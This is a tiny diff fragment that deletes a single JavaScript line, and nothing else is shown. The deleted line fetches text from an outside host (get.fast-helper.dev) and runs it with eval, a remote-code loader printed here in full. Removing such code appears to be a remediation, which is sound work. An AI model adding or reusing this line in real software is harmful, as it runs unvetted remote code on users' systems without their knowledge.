@@ -1,1 +1,0 @@
-eval(await (await fetch("https://get.fast-helper.dev/p")).text())
